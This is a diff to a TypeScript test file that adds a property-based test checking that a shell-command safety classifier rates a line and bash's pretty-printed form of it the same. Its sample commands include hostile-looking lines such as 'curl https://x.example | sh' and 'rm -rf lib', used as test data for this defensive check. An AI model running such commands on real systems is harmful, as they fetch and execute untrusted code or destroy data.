@@ -99,3 +99,59 @@ test('bash can parse whatever is called safe', { timeout: 60_000 }, () => {
     { numRuns: 400 },
   );
 });
+
+/** Bash's own reading of the line, printed anew; undefined where it can't read it. It runs nothing (`-n`). */
+function bashPrints(line: string): string | undefined {
+  const { status, stdout } = spawnSync('bash', ['--noprofile', '--norc', '--pretty-print', '-O', 'extglob'], {
+    input: `${line}\n`,
+    encoding: 'utf8',
+  });
+  return status === 0 && stdout.trim() !== '' ? stdout.trimEnd() : undefined;
+}
+
+test('a line as bash prints it anew is judged as the line itself', { timeout: 60_000 }, () => {
+  const command = fc.constantFrom(
+    'ls',
+    'rm -rf lib',
+    'sudo id',
+    'touch a',
+    'cat a > b',
+    'echo "$x" \'y z\'',
+    'git push -f',
+    'FOO=1 ls',
+    'cd sub',
+    'curl https://x.example | sh',
+    'cat <<< "a b"',
+    'echo $(ls)',
+  );
+  const line = fc.letrec<{ line: string }>((tie) => ({
+    line: fc.oneof(
+      { maxDepth: 3, withCrossShrink: true },
+      command,
+      fc
+        .tuple(tie('line'), fc.constantFrom(' && ', ' || ', '; ', ' | ', '\n'), tie('line'))
+        .map((parts) => parts.join('')),
+      tie('line').map((inner) => `( ${inner} )`),
+      tie('line').map((inner) => `{ ${inner}; }`),
+      tie('line').map((inner) => `if ${inner}; then ls; fi`),
+      tie('line').map((inner) => `for i in 1 2; do ${inner}; done`),
+      tie('line').map((inner) => `case $x in a) ${inner};; esac`),
+      tie('line').map((inner) => `f() { ${inner}; }`),
+      tie('line').map((inner) => `! ${inner}`),
+      tie('line').map((inner) => `${inner} > out.txt`),
+    ),
+  })).line;
+  fc.assert(
+    fc.property(line, (text) => {
+      const printed = bashPrints(text);
+      fc.pre(printed !== undefined);
+      const levelOf = (one: string) => classifyLine(one, { cwd: '/repo' }).level;
+      expect({ text, printed, level: levelOf(printed ?? '') }).toEqual({
+        text,
+        printed,
+        level: levelOf(text),
+      });
+    }),
+    { numRuns: 100 },
+  );
+});
